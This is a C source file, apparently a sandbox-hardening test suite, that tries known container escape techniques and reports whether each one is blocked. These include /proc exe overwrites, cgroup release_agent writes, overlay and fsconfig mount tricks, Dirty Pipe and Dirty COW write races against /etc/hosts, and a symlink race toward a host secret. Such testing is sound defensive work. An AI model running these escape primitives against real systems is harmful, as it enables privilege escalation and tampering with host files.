/* Attempts by the ways that workbenches of others were once left. */
#define _GNU_SOURCE
#include "attack.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/* The program behind a process is a file: who starts or enters workbenches must not have left theirs within reach. */
void attack_runtime_binary(void) {
  DIR *all = opendir("/proc");
  char path[300];
  for (struct dirent *entry; all && (entry = readdir(all));) {
    if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) == getpid()) {
      continue;
    }
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    must_not_open(path, O_WRONLY);
    int handle = open(path, O_PATH | O_CLOEXEC); /* opening it again later, when it does not run any more */
    if (handle >= 0) {
      snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
      must_not_open(path, O_WRONLY);
      close(handle);
    }
  }
  if (all) {
    closedir(all);
  }
  must_not_open("/run/holdfast/guest", O_WRONLY);
  must_not_open("/proc/1/root/run/holdfast/guest", O_WRONLY);
}

/* A descriptor or a working directory that somebody brought along leads to where it was opened. */
void attack_working_directory(void) {
  char path[PATH_MAX], where[PATH_MAX] = "";
  for (int fd = 0; fd < 32; fd++) {
    snprintf(path, sizeof path, "../../../../../../../..%s", argument("secret"));
    TRY("up from a descriptor", openat(fd, path, O_RDONLY | O_CLOEXEC));
    snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../..%s", fd, argument("secret"));
    must_not_open(path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/1/fd/%d/../../../../../../..%s", fd, argument("secret"));
    must_not_open(path, O_RDONLY);
  }
  snprintf(path, sizeof path, "../../../../../../../..%s", argument("secret"));
  must_not_open(path, O_RDONLY);
  ssize_t n = readlink("/proc/self/cwd", where, sizeof where - 1);
  where[n < 0 ? 0 : n] = 0;
  if (strcmp(where, "/workspace") == 0) {
    held("working directory", "own");
  } else {
    broken("working directory", "is `%s`", where);
  }
}

static void in_namespaces(const char *what, long flags, const char *type, const char *options) {
  long made = syscall(SYS_unshare, flags);
  must_fail(what, made);
  if (made == 0) {
    TRY(what, mount("none", "/tmp", type, 0, options));
  }
}

static void mount_overlay(const char *what) {
  in_namespaces(what, CLONE_NEWUSER | CLONE_NEWNS, "overlay", "lowerdir=/usr,upperdir=/home/agent,workdir=/tmp");
}

static void mount_cgroup(const char *what) {
  in_namespaces(what, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, "cgroup", "rdma");
}

/* Copying a file up once kept the set-user-id bit and the owner that the layer below claimed. */
void attack_overlay(void) {
  in_child("in a user namespace", mount_overlay);
  TRY("mount overlay", mount("overlay", "/tmp", "overlay", 0, "lowerdir=/usr,upperdir=/home/agent,workdir=/tmp"));
  TRY("mount fuse", mount("none", "/tmp", "fuse", 0, "fd=0,rootmode=40000,user_id=1000,group_id=1000"));
  TRY("open a file system", syscall(SYS_fsopen, "ext4", 0));
  /* An option without a value, over and over, once overflowed the kernel's buffer. */
  TRY("configure a file system", syscall(SYS_fsconfig, 0, 1 /* SET_STRING */, "\0", "AAAAAAAA", 0));
  TRY("finish a file system", syscall(SYS_fsmount, 0, 0, 0));
  TRY("pick a file system", syscall(SYS_fspick, AT_FDCWD, "/", 0));
  TRY("whiteout", mknod(SCRATCH "-whiteout", S_IFCHR, 0));
  int fd = open(SCRATCH "-redirect", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  TRY("redirect", fsetxattr(fd, "trusted.overlay.redirect", "/", 1, 0));
  close(fd);
}

/* As root of a user namespace one once could mount a hierarchy of the host and name a program to be run there. */
void attack_release_agent(void) {
  in_child("in a user namespace", mount_cgroup);
  static const char *const FILES[] = {"/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/rdma/release_agent",
                                      "/sys/fs/cgroup/memory/release_agent", "/proc/1/root/sys/fs/cgroup/release_agent",
                                      "/sys/kernel/uevent_helper", "/proc/sys/kernel/core_pattern",
                                      "/proc/sys/kernel/poweroff_cmd", "/proc/sys/fs/binfmt_misc/register"};
  for (size_t i = 0; i < sizeof FILES / sizeof *FILES; i++) {
    must_not_open(FILES[i], O_WRONLY);
  }
}

void attack_netfilter(void) {
  static const struct {
    const char *name;
    int protocol;
  } NETLINKS[] = {{"routes", 0}, {"sockets", 4}, {"transforms", 6}, {"audit", 9}, {"tables", 12}, {"events", 15}, {"generic", 16}};
  for (size_t i = 0; i < sizeof NETLINKS / sizeof *NETLINKS; i++) {
    TRY(NETLINKS[i].name, socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINKS[i].protocol));
  }
  char table[512] = {0};
  int v4 = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), v6 = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
  TRY("replace IPv4 tables", setsockopt(v4, IPPROTO_IP, 64 /* IPT_SO_SET_REPLACE */, table, sizeof table));
  TRY("replace IPv6 tables", setsockopt(v6, IPPROTO_IPV6, 64, table, sizeof table));
  TRY("replace ARP tables", setsockopt(v4, IPPROTO_IP, 96, table, sizeof table));
  close(v4);
  close(v6);
}

/* Who may only read a file maps it for all that: the kernel has one copy of its pages for everybody. */
#define PAGE_TARGET "/etc/hosts"

static void page_is_as_before(const char *what, const char *before) {
  char now[64];
  slurp(PAGE_TARGET, now, sizeof now);
  if (strcmp(now, before) == 0) {
    held(what, "unchanged");
  } else {
    broken(what, PAGE_TARGET " begins with `%.20s`", now);
  }
}

/* Pages spliced into a pipe were once taken for pages of the pipe, and written to. */
static void write_through_a_pipe(int fd) {
  int ends[2];
  static char block[4096];
  if (pipe(ends) != 0) {
    return;
  }
  for (int i = 0; i < 16; i++) {
    if (write(ends[1], block, sizeof block) < 0 || read(ends[0], block, sizeof block) < 0) {
      return;
    }
  }
  loff_t start = 0;
  if (splice(fd, &start, ends[1], NULL, 1, 0) == 1 && write(ends[1], "attack", 6) < 0) {
    return;
  }
  close(ends[0]);
  close(ends[1]);
}

static void *private_copy;
static atomic_bool raced;

static void *throw_copy_away(void *unused) {
  while (!raced) {
    madvise(private_copy, 4096, MADV_DONTNEED);
  }
  return unused;
}

/* A write to a private copy once reached the file when the copy was thrown away at that moment. */
static void write_through_a_copy(int fd) {
  private_copy = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  pthread_t other;
  if (private_copy == MAP_FAILED || pthread_create(&other, NULL, throw_copy_away, NULL) != 0) {
    return;
  }
  for (int i = 0; i < 20000; i++) {
    if (pwrite(memory, "attack", 6, (off_t)(size_t)private_copy) < 0) {
      break; /* nor may it be written at all */
    }
  }
  raced = true;
  pthread_join(other, NULL);
  close(memory);
}

void attack_page_cache(void) {
  char before[64];
  slurp(PAGE_TARGET, before, sizeof before);
  int fd = open(PAGE_TARGET, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || !before[0]) {
    printf("unclear\t" PAGE_TARGET "\tnot readable\n");
    return;
  }
  write_through_a_pipe(fd);
  page_is_as_before("through a pipe", before);
  write_through_a_copy(fd);
  page_is_as_before("through a private copy", before);
}

/*
 * While the host reads and writes `door/secret`, the door is a directory at one moment and a link to where the host's
 * secret is at the next. What came of it the host judges; here it is only made sure that there was a race.
 */
void attack_exchange(void) {
  char outside[PATH_MAX];
  snprintf(outside, sizeof outside, "%s", argument("secret"));
  const char *target = dirname(outside);
  int exchanges = 0;
  for (time_t end = time(NULL) + 3; time(NULL) < end;) {
    char away[64];
    exchanges += symlink(target, "/workspace/door") == 0;
    usleep(200);
    unlink("/workspace/door");
    mkdir("/workspace/door", 0755); /* unless the host has just made it, for what it writes there */
    usleep(200);
    snprintf(away, sizeof away, "/workspace/was-%d", exchanges);
    rename("/workspace/door", away);
  }
  if (exchanges > 20) {
    held("exchanges", "raced");
  } else {
    printf("unclear\texchanges\tonly %d\n", exchanges);
  }
}
